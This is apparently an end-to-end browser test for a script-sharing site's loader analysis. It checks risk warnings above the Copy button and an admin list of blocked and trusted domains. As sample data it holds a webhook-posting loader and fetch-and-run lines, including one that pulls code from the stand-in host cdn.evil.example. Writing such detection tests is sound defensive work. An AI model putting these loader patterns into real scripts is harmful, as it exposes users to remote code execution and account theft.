import { describe, expect, it } from 'vitest';
import { expectNoSeriousViolations } from './harness.ts';
import { createScript, toast } from './staff.ts';
import { e2eSuite } from './suite.ts';

/**
 * A visitor reads what a loader does before copying it (issue 15, docs/decisions/0018-loader-analysis.md#what-this-loader-does-on-the-script-page):
 * the card's mark, then on the script's page, above the Copy button, the warning and the findings. The
 * admin keeps the blocked and trusted domains in the Domains section. The loaders are harmless samples.
 */

const WEBHOOK_LOADER = [
  '-- harmless sample: the webhook address is made up',
  'request({ Url = "https://discord.com/api/webhooks/000/demo", Method = "POST", Body = "demo" })',
  'loadstring(game:HttpGet("https://raw.githubusercontent.com/demo/hub/main.lua"))()',
].join('\n');

describe('what a loader does, for visitors and the admin, in a real browser', () => {
  let scriptId: number;
  const suite = e2eSuite({
    admin: true,
    arrange: async ({ adminToken }) => {
      await createScript(suite, adminToken, { playsname: 'Harmless Plain Hub', description: 'Prints hello', loadstring: 'print("hello")' });
      ({ id: scriptId } = await createScript(suite, adminToken, { playsname: 'Webhook Stats Hub', description: 'Posts stats to a webhook', loadstring: WEBHOOK_LOADER }));
    },
  });

  it('marks the card, then shows the warning and the findings above the Copy button before the visitor copies', async () => {
    const page = await suite.visit('/scripts', { permissions: ['clipboard-read', 'clipboard-write'] });
    const card = (name: string) => page.getByRole('article').filter({ has: page.getByRole('heading', { name }) });
    await card('Webhook Stats Hub').getByRole('list', { name: 'Script facts' }).getByText('Risky loader').waitFor();
    expect(await card('Harmless Plain Hub').getByText('Risky loader').count()).toBe(0);

    await card('Webhook Stats Hub').getByRole('link', { name: 'Get Script' }).click();
    await page.waitForURL(new RegExp(`/scripts/${scriptId}-`));
    await page.getByRole('heading', { level: 1, name: 'Webhook Stats Hub' }).waitFor();
    await page.getByRole('tab', { name: 'Script', exact: true }).click();

    const report = page.getByRole('region', { name: 'What this loader does' });
    await report.waitFor();
    expect(await report.getByRole('listitem').allTextContents()).toEqual([
      'High risk: Sends data to a Discord or Guilded webhook: a common way to steal account details.',
      'Caution: Downloads more code and runs it: what runs is whatever that address serves.',
    ]);
    await expect(report.getByText('Fetches from').textContent()).resolves.toContain('discord.com, raw.githubusercontent.com');
    const warning = page.getByRole('alert').filter({ hasText: 'Warning: this loader does something' });
    await warning.waitFor();

    // Above the Copy button, both in view of the visitor before copying.
    const copy = page.getByRole('button', { name: 'Copy', exact: true });
    const [warningBox, reportBox, copyBox] = await Promise.all([warning.boundingBox(), report.boundingBox(), copy.boundingBox()]);
    expect(warningBox!.y).toBeLessThan(reportBox!.y);
    expect(reportBox!.y + reportBox!.height).toBeLessThanOrEqual(copyBox!.y);
    await expectNoSeriousViolations(page, 'script page with loader findings', { pointerAway: true });

    await copy.click();
    await page.getByRole('button', { name: 'Copied' }).waitFor();
    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(WEBHOOK_LOADER);
  });

  it('shows a loader without findings as such, with no warning', async () => {
    const page = await suite.visit('/scripts');
    await page.getByRole('article').filter({ has: page.getByRole('heading', { name: 'Harmless Plain Hub' }) }).getByRole('link', { name: 'Get Script' }).click();
    await page.getByRole('heading', { level: 1, name: 'Harmless Plain Hub' }).waitFor();
    await page.getByRole('tab', { name: 'Script', exact: true }).click();
    await page.getByRole('region', { name: 'What this loader does' }).getByText('Nothing risky found in this loader.').waitFor();
    expect(await page.getByRole('alert').filter({ hasText: 'Warning: this loader' }).count()).toBe(0);
  });

  it('lets the admin add a blocked and a trusted domain and delete one after confirming', async () => {
    const page = await suite.visit('/admin/dashboard', { tokens: { admin: suite.adminToken } });
    await page.getByRole('link', { name: 'Domains' }).click();
    await page.getByRole('heading', { level: 1, name: 'Domains' }).waitFor();
    await page.getByText('No domains listed').waitFor();

    const form = page.getByRole('form', { name: 'Add a domain' });
    // A URL is not a domain: the field says so and nothing is added.
    await form.getByLabel('Domain').fill('https://evil.example/x');
    await form.getByRole('button', { name: 'Add domain' }).click();
    await form.getByText(/domain name such as example\.com/).waitFor();

    await form.getByLabel('Domain').fill('WWW.Evil.Example');
    await form.getByRole('button', { name: 'Add domain' }).click();
    const list = page.getByRole('list', { name: 'Domains' });
    await list.getByText('evil.example').waitFor();
    await form.getByLabel('Domain').fill('githubusercontent.com');
    await form.getByLabel('Trusted').check();
    await form.getByRole('button', { name: 'Add domain' }).click();
    await expect.poll(() => list.getByRole('listitem').allTextContents()).toEqual(['evil.exampleBlocked', 'githubusercontent.comTrusted']);
    // Checked once the add has settled (a pending button is dimmed on purpose).
    await form.locator('button[type="submit"]:not([aria-busy])').waitFor();
    await toast(page, 'Domain added successfully').first().waitFor();
    await expectNoSeriousViolations(page, 'admin domains section', { pointerAway: true });

    // The blocked domain now refuses a loader that fetches from it.
    const refused = await fetch(`${suite.url}/api/ac`, {
      method: 'POST',
      headers: { authorization: `Bearer ${suite.adminToken}`, 'content-type': 'application/json' },
      body: JSON.stringify({ playsname: 'Blocked Hub', description: 'd', loadstring: 'loadstring(game:HttpGet("https://cdn.evil.example/x.lua"))()' }),
    });
    expect(refused.status).toBe(400);
    expect(((await refused.json()) as { error: string }).error).toContain('cdn.evil.example');

    await page.getByRole('button', { name: 'Delete evil.example' }).click();
    const dialog = page.getByRole('dialog');
    await dialog.getByRole('heading', { name: 'Are you sure you want to delete this domain?' }).waitFor();
    await dialog.getByRole('button', { name: 'Delete' }).click();
    await expect.poll(() => list.getByRole('listitem').allTextContents()).toEqual(['githubusercontent.comTrusted']);

    // Trusted, the hub's code is a note on the script's page.
    const script = (await (await fetch(`${suite.url}/api/scripts/${scriptId}`)).json()) as { analysis: { findings: { code: string }[] } };
    expect(script.analysis.findings.map((item) => item.code)).toEqual(['webhook', 'trusted-remote-code']);
  });
});
